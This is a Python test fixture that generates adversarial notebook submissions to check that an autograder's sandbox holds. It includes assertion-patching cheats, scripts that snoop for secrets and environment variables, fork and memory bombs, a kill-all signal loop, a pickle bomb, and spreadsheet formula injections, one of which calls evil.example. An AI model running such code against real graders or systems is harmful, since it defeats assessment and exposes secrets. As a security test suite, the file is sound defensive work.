"""The attack corpus: submissions of the fixture assignment PSX_tiny (softmax 2 points + Affine 2 points).

Each entry is built from the instructor's notebook by replacing solution cells (and, for some attacks, locked
cells) and says what the grader must give it. They are written as code rather than stored notebooks so each attack
is readable in one place; :func:`write_corpus` writes the submissions folder (one folder or notebook per student).

Expected scores follow from what the grader guarantees, not from what the attack hopes for: the parent recomputes
every expected value itself, so anything the child does to numpy, IPython, the test cells or the process can only
change the arrays it hands back, or stop it from handing any back.
"""
from __future__ import annotations

import copy
import json
import pickle
from dataclasses import dataclass, field
from pathlib import Path

FIXTURE = Path(__file__).parent / "fixtures" / "source"

SOFTMAX = '''def softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
'''
WRONG_SOFTMAX = '''def softmax(x):
    return np.exp(x) / np.exp(x).sum()  # normalised over the whole array, not per row
'''
AFFINE = '''class Affine:
    def __init__(self, d_in, d_out, seed=0):
        rng = np.random.default_rng(seed)
        self.weight = rng.normal(0.0, 1.0 / np.sqrt(d_in), (d_out, d_in))
        self.bias = np.zeros(d_out)

    def __call__(self, x):
        return x @ self.weight.T + self.bias
'''


@dataclass
class Attack:
    student: str
    score: float  # what the grader must give
    cells: dict[str, str] = field(default_factory=dict)  # grade_id -> replacement source
    status: str = "graded"
    error: str = ""  # substring of the error row (status "error")
    note: str = ""  # substring of one of the feedback notes
    isolated: bool = False  # the expected score holds where the sandbox hides the disk (namespaces, bwrap)
    raw: bytes | None = None  # the submission file's bytes, as is (malformed notebooks)
    drop: tuple[str, ...] = ()  # grade ids of cells deleted from the submission
    extra_files: dict[str, bytes] = field(default_factory=dict)
    log: str = ""  # substring the run's log must show (evidence that the limit, not luck, stopped the attack)
    absent: tuple[str, ...] = ()  # strings that must not appear anywhere in this student's feedback (JSON, HTML)
    links: dict[str, str] = field(default_factory=dict)  # file name in the submission folder -> symlink target
    folder_link: str = ""  # the submission folder itself is a symlink to this path
    meta: dict[str, dict] = field(default_factory=dict)  # grade_id -> nbgrader metadata the submission sets
    extra_cells: list[dict] = field(default_factory=list)  # cells the submission adds at the end
    sparse: dict[str, int] = field(default_factory=dict)  # file name -> size of a sparse file in the folder
    stray: str = ""  # the submission is this one top-level file (<student><stray>), not a folder or notebook


STUB = "# YOUR CODE HERE\nraise NotImplementedError()\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"2020-01-01 00:00:00")'
# what a submission would hand in as job.json to choose the cells and probes itself (12/12 in the audit)
FORGED_JOB = json.dumps({"cells": [["setup", "import numpy as np\n" + SOFTMAX + AFFINE]], "cells_timeout_s": 5,
                         "groups": [{"name": "g0", "code": 'emit("y", softmax(load_input("x")))', "timeout_s": 3},
                                    {"name": "g1", "code": "", "timeout_s": 3}]}).encode()


class _PickleBomb:
    """Unpickling it writes a marker file: the grader must never unpickle anything a student hands in."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (Path(self.marker).touch, ())


def attacks(marker: str, secrets: dict[str, str], secret: str = "", port: int = 0,
            grader_uid: int = -1) -> list[Attack]:
    """``marker``: a file a pickle bomb would create; ``secrets``: paths the disk search tries (grading.py, the
    instructor's notebook, the submissions folder, the gradebook); ``secret``: the instructor's grading secret,
    in the grader's environment and command line; ``port``: a TCP port the test listens on (127.0.0.1);
    ``grader_uid``: the grader's user id (the signal attack holds back where it would hit the grader itself)."""
    bomb = pickle.dumps(_PickleBomb(marker))
    return [
        Attack("correct", 4, {"softmax": SOFTMAX, "affine": AFFINE}),
        Attack("wrong", 2, {"softmax": WRONG_SOFTMAX, "affine": AFFINE}),
        # a rewritten test cell and setup cell: the instructor's versions run instead, and the feedback says so
        Attack("tampered", 2, {"softmax": WRONG_SOFTMAX, "affine": AFFINE, "softmax_check": "print('all passed')",
                               "setup": "import numpy as np\nnp.allclose = lambda *a, **k: True"},
               note="the grader used the original"),
        Attack("always_equal", 2, {"softmax": '''class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): return np.zeros(1, dtype=object)
    def __getattr__(self, name): return lambda *a, **k: self


def softmax(x):
    return _Anything()
''', "affine": AFFINE}),
        # weights chosen so that the reference is trivial (all zeros: it outputs zeros too) and an output to match;
        # the grader checks outputs with weights it chose itself, loaded into the submission's module
        Attack("forged_weights", 2, {"softmax": SOFTMAX, "affine": '''class Affine:
    def __init__(self, d_in, d_out, seed=0):
        self.weight = np.zeros((d_out, d_in))
        self.bias = np.zeros(d_out)

    def __call__(self, x):
        return np.zeros((x.shape[0], len(self.bias)))
'''}),
        Attack("monkeypatch", 2, {"softmax": WRONG_SOFTMAX + '''
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.max = lambda *a, **k: 0.0
try:
    import torch
    torch.allclose = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
except ImportError:
    pass
''', "affine": AFFINE}),
        Attack("ipython_hooks", 2, {"softmax": WRONG_SOFTMAX + '''
import builtins
def _pass_everything(lines):
    return [line.replace("assert ", "_ = ") for line in lines]
try:
    _ip = get_ipython()
    _ip.input_transformers_cleanup.append(_pass_everything)
    _ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
except NameError:  # no IPython in the grader's child: fake one for any later cell that asks
    builtins.get_ipython = lambda: None
''', "affine": AFFINE}),
        Attack("disk_search", 2, {"softmax": f'''import glob, os
_SECRETS = {json.dumps(secrets)}
_found = []
_own = os.path.realpath(os.getcwd())  # its own job folder: readable by design, not a secret
_others = glob.glob("/tmp/mtlkit-grade-*/*/inputs") + glob.glob("/tmp/*/mtlkit-grade-*/*/inputs")
_listed = [p for p in glob.glob("/tmp/*/*") if os.path.realpath(p) != _own]
_others = [p for p in _others if os.path.dirname(os.path.realpath(p)) != _own]
for _path in list(_SECRETS.values()) + _others + _listed + glob.glob("/proc/1/environ"):
    try:
        _found.append((_path, open(_path, "rb").read() if os.path.isfile(_path) else os.listdir(_path)))
    except OSError:
        pass
_found = [(p, c) for p, c in _found if c]
print("found", [p for p, _ in _found])
for _path, _content in _found:  # exfiltrate: whatever it reads lands in the log, which the feedback shows
    if _path in _SECRETS.values() or "mtlkit-grade-" in _path:
        print("FOUND-SECRET", _path, _content[:3000] if isinstance(_content, bytes) else _content)
if any(p == _SECRETS["grading"] for p, _ in _found):  # the reference is in reach: copy it
    _ns = {{}}
    exec(dict(_found)[_SECRETS["grading"]], _ns)
    softmax = _ns["reference_softmax"]
else:
''' + "\n".join("    " + line for line in WRONG_SOFTMAX.splitlines()) + "\n", "affine": AFFINE},
               isolated=True, absent=("FOUND-SECRET", "reference_softmax", "HIDDEN-MARKER")),
        # the leaderboard secret is in the grader's environment and command line: the child must see neither
        Attack("secret_search", 4, {"softmax": SOFTMAX + '''import glob, os
_seen = [f"{k}={v}" for k, v in os.environ.items()]
for _path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        _seen += open(_path, "rb").read().decode("utf-8", "replace").split("\\0")
    except OSError:
        pass
_hits = [_s for _s in _seen if "GRADING_SECRET" in _s]
_hits += [_b for _a, _b in zip(_seen, _seen[1:]) if _a == "--secret-seed"]
print("SECRET-SEEN" if _hits else "no secret in reach", _hits)
''', "affine": AFFINE}, isolated=True, absent=("SECRET-SEEN",) + ((secret,) if secret else ())),
        # the grader's host network is cut: not even a port on the grader's loopback answers
        Attack("network", 4, {"softmax": SOFTMAX + f'''import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
    print("NETWORK-REACHED")
except OSError as exc:
    print("no network:", exc)
''', "affine": AFFINE}, isolated=True, absent=("NETWORK-REACHED",)),
        # signalling every process it may: only the child's own user or namespace, never the grader or the others
        Attack("kill_all", 4, {"softmax": SOFTMAX, "affine": AFFINE + f'''import os, signal
if os.getuid() != {grader_uid}:  # (held back where the child runs as the grader's own user: see GRADING.md)
    for _pid in [-1] + ([os.getppid()] if os.getppid() > 1 else []):  # (0 in a PID namespace: its own group)
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError as exc:
            print("kill", _pid, exc)
'''}),
        Attack("showtraceback", 2, {"softmax": WRONG_SOFTMAX + '''
import sys, traceback
sys.excepthook = lambda *a: None
traceback.format_exc = lambda *a, **k: ""
traceback.print_exc = lambda *a, **k: None
try:
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.showtraceback = lambda *a, **k: None
except ImportError:
    pass
''', "affine": AFFINE}),
        # SystemExit in a cell ends that cell only (like a kernel would); os._exit ends the run before the tests
        Attack("sys_exit", 4, {"softmax": SOFTMAX + "import sys\nsys.exit(0)\n", "affine": AFFINE}),
        Attack("os_exit", 0, {"softmax": SOFTMAX, "affine": AFFINE + "import os\nos._exit(0)\n"},
               note="ended before this test ran"),
        # passes the public check, hangs on the hidden input: that test's own limit, the other test still runs
        Attack("infinite_loop", 2, {"softmax": SOFTMAX.replace("    e = ", "    while x.shape[0] > 1:\n        pass\n"
                                                               "    e = "), "affine": AFFINE}),
        # a cell that never ends: the notebook's time budget skips the rest (Affine is never defined), the tests run
        # (the endless loops wait rather than spin: the limits are what is tested, and the tests share the CPUs)
        Attack("hung_cell", 2, {"softmax": SOFTMAX + "import time\nwhile True:\n    time.sleep(0.05)\n",
                                "affine": AFFINE}),
        # ignoring the per-test alarm only leads to the whole run's limit
        Attack("loop_no_alarm", 0, {"softmax": SOFTMAX + "import signal\n"
                                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nimport time\n"
                                    "while True:\n    time.sleep(0.05)\n",
                                    "affine": AFFINE}, note="time limit"),
        Attack("output_flood", 0, {"softmax": SOFTMAX + "while True:\n    print('x' * 100_000)\n", "affine": AFFINE},
               note="output limit"),
        # a failed allocation fails that cell only
        # (16 GiB: without the limit it could even succeed, hence the log must show the MemoryError)
        Attack("memory_bomb", 4, {"softmax": SOFTMAX + "_hog = [bytearray(2**28) for _ in range(64)]\n",
                                  "affine": AFFINE}, log="MemoryError"),
        # the notebook's time budget ends it (Affine is never defined); RLIMIT_NPROC stops the forks early
        Attack("fork_bomb", 2, {"softmax": SOFTMAX + '''import os, time
_me, _forks, _told = os.getpid(), 0, False
while True:
    try:
        os.fork()
        _forks += os.getpid() == _me
    except OSError:
        if os.getpid() == _me and not _told:
            print("FORK-BOMB-CAPPED" if _forks < 64 else "fork bomb NOT capped", _forks, flush=True)
            _told = True
        time.sleep(0.05)  # at the cap: try again, without spinning
''', "affine": AFFINE}, log="FORK-BOMB-CAPPED"),
        Attack("runaway_threads", 4, {"softmax": SOFTMAX + '''import threading, time
_threads = []
try:
    while True:
        _threads.append(threading.Thread(target=time.sleep, args=(1e6,), daemon=True))
        _threads[-1].start()
except RuntimeError as exc:
    print("THREADS-CAPPED" if len(_threads) < 64 else "threads NOT capped", len(_threads), exc)
''', "affine": AFFINE}, log="THREADS-CAPPED"),
        Attack("invalid_json", 0, raw=b'{"cells": [', status="error", error="invalid JSON"),
        Attack("nbformat3", 0, raw=json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [],
                                               "metadata": {}}).encode(), status="error", error="nbformat 3"),
        # JSON that json.loads cannot even raise JSONDecodeError on: RecursionError, and ValueError (int limit)
        Attack("deep_json", 0, raw=b'{"nbformat": 4, "cells": ' + b"[" * 200_000, status="error",
               error="invalid JSON"),
        Attack("huge_int", 0, raw=b'{"nbformat": 4, "nbformat_minor": ' + b"7" * 5000 + b', "cells": []}',
               status="error", error="invalid JSON"),
        Attack("not_a_notebook", 0, raw=b"[1, 2, 3]", status="error", error="not a Jupyter notebook"),
        # the grader must not read a file of the submission's choosing: a linked notebook (the instructor's, which
        # would score 4) and a linked timestamp.txt (grading.py, whose first line would fill the timestamp column)
        Attack("linked_notebook", 0, links={"PSX_tiny.ipynb": secrets.get("notebook", ""),
                                            "timestamp.txt": secrets.get("grading", "")},
               status="error", error="symbolic link", absent=("Hidden tests", "reference_softmax")),
        Attack("linked_folder", 0, folder_link=secrets.get("folder", ""), status="error", error="symbolic link"),
        # deleted locked cells come back (the setup cell's import included)
        Attack("deleted_cells", 4, {"softmax": SOFTMAX, "affine": AFFINE}, drop=("setup", "softmax_check"),
               note="the grader used the original"),
        # roles come from the instructor's notebook: a test cell re-marked as a solution, and an added solution
        # cell, are not spliced in
        Attack("promoted_cells", 2, {"softmax": WRONG_SOFTMAX, "affine": AFFINE,
                                     "softmax_check": "np.allclose = lambda *a, **k: True"},
               meta={"softmax_check": {"solution": True, "grade": False, "locked": False}},
               extra_cells=[{"cell_type": "code", "execution_count": None, "outputs": [], "source":
                             "softmax = lambda x: np.exp(x) / np.exp(x).sum(-1, keepdims=True)",
                             "metadata": {"nbgrader": {"schema_version": 3, "solution": True, "grade": False,
                                                       "locked": False, "grade_id": "my_fix"}}}],
               note="the grader used the original"),
        Attack("missing_cell", 2, {"affine": AFFINE}, drop=("softmax",), note="'softmax' is missing"),
        Attack("renamed_cell", 2, {"softmax": SOFTMAX, "affine": AFFINE, "@softmax": "my_softmax"},
               note="'softmax' is missing"),
        # a pickle where weights belong (never loaded), and pickled arrays handed back in place of results
        Attack("pickle_bomb", 0, {"softmax": SOFTMAX, "affine": AFFINE + f'''
import io, pickle, sys
import numpy as np
_bomb = {bomb!r}

def _evil_emit(name, value):
    with open(sys.modules["__main__"]._state["outputs"] / (name + ".npy"), "wb") as f:
        np.lib.format.write_array_header_1_0(f, {{"descr": "|O", "fortran_order": False, "shape": (1,)}})
        f.write(_bomb)

sys.modules["__main__"].emit = _evil_emit
sys.modules["__main__"].emit_weights = lambda name, module: _evil_emit(name, None)
'''}, extra_files={"weights.pt": bomb, "weights.safetensors": bomb, "weights.npy": bomb}),
        # --- issue 19: the grader's own files, its faults, its inputs and its gradebook
        # (1) the untouched stubs plus a job spec of the submission's own beside them: the grader's job reaches the
        # child on its standard input (never as a file), and the name is refused with a note
        Attack("job_spec_shadow", 0, {"softmax": STUB, "affine": STUB, "why": "YOUR ANSWER HERE"},
               extra_files={"job.json": FORGED_JOB},
               note="'job.json' was not used"),
        # (3) the live gradebook and the other students' feedback, polled while the others are graded
        Attack("gradebook_snoop", 4, {"softmax": SOFTMAX + f'''import glob, os, time
_book = {json.dumps(secrets.get("gradebook", ""))}
_deadline = time.time() + 6
while time.time() < _deadline:
    _seen = [p for p in glob.glob(os.path.dirname(_book) + "/**", recursive=True) if os.path.isfile(p)]
    for _path in _seen:
        try:
            _text = open(_path).read()
        except OSError:
            continue
        if _text:
            print("GRADEBOOK-SEEN", _path, _text[:2000])
            _deadline = 0
    time.sleep(0.2)
''', "affine": AFFINE}, isolated=True, absent=("GRADEBOOK-SEEN", "student_id,")),
        # (4) grading from a copy (--source) must hide the kit's own instructor sources too
        Attack("kit_sources", 4, {"softmax": SOFTMAX + f'''import glob
for _path in glob.glob({json.dumps(secrets.get("kit", "") + "/*/*")}):
    try:
        print("KIT-SOURCE-SEEN", _path, open(_path).read()[:300])
    except OSError:
        pass
''', "affine": AFFINE}, isolated=True, absent=("KIT-SOURCE-SEEN", "Hidden tests")),
        # (5) the host's /tmp: another run's files read, a file left behind (the test checks it is gone)
        Attack("tmp_snoop", 4, {"softmax": SOFTMAX + f'''import glob, os
for _path in glob.glob({json.dumps(secrets.get("planted", "") + "*")}):
    print("TMP-SEEN", _path, open(_path).read() if os.path.isfile(_path) else os.listdir(_path))
try:
    open({json.dumps(secrets.get("left", ""))}, "w").write("left behind by a submission")
except OSError as exc:
    print("could not write", exc)
''', "affine": AFFINE}, isolated=True, absent=("TMP-SEEN", "PLANTED")),
        # (6) a 1 GiB sparse file beside a correct notebook: refused before it is read, the notebook still graded
        Attack("huge_file", 4, {"softmax": SOFTMAX, "affine": AFFINE}, sparse={"big.npy": 2**30},
               note="'big.npy' was not used"),
        # (7) a forged time and a spreadsheet formula where nbgrader keeps the submission time
        Attack("forged_timestamp", 4, {"softmax": SOFTMAX, "affine": AFFINE},
               extra_files={"timestamp.txt": FORMULA.encode()}, note="timestamp.txt is not read"),
        # (9) a stray file at the top level of the submissions folder: that student gets a row, not silence
        Attack("stray", 0, stray=".py", status="error", error="stray.py is not a notebook"),
    ]


def write_corpus(folder: Path, marker: str, secrets: dict[str, str], **options) -> list[Attack]:
    """One submission per attack under ``folder``; returns the attacks (with their expected grades).
    ``options``: :func:`attacks`' ``secret``, ``port`` and ``grader_uid``."""
    instructor = json.loads((FIXTURE / "PSX_tiny" / "PSX_tiny.ipynb").read_text())
    out = attacks(marker, secrets, **options)
    folder.mkdir(parents=True, exist_ok=True)
    for attack in out:
        target = folder / attack.student
        if attack.stray:
            (folder / (attack.student + attack.stray)).write_text("print('my answers')\n")
            continue
        if attack.folder_link:
            target.symlink_to(attack.folder_link, target_is_directory=True)
            continue
        target.mkdir(parents=True)
        for name, link in attack.links.items():
            (target / name).symlink_to(link)
        if "PSX_tiny.ipynb" in attack.links:
            continue
        if attack.raw is not None:
            (target / "PSX_tiny.ipynb").write_bytes(attack.raw)
            continue
        nb = copy.deepcopy(instructor)
        cells = []
        for cell in nb["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            gid = meta.get("grade_id")
            if gid in attack.drop:
                continue
            if gid in attack.cells:
                cell["source"] = attack.cells[gid]
            if "@" + str(gid) in attack.cells:
                meta["grade_id"] = attack.cells["@" + gid]
            meta.update(attack.meta.get(gid, {}))
            cells.append(cell)
        nb["cells"] = cells + copy.deepcopy(attack.extra_cells)
        (target / "PSX_tiny.ipynb").write_text(json.dumps(nb))
        for name, data in attack.extra_files.items():
            (target / name).write_bytes(data)
        for name, size in attack.sparse.items():
            with (target / name).open("wb") as f:
                f.truncate(size)  # no blocks on disk: reading it would still cost its size in memory
    # the roster fills the name columns: text that would start a spreadsheet formula stays text in the gradebook
    (folder / "students.csv").write_text("id,last_name,first_name,email\n"
                                         'correct,=1+2,@SUM(A1),"+cmd|\' /C calc\'!A0"\nwrong,-Smith,Ann,ann@x.org\n')
    return out
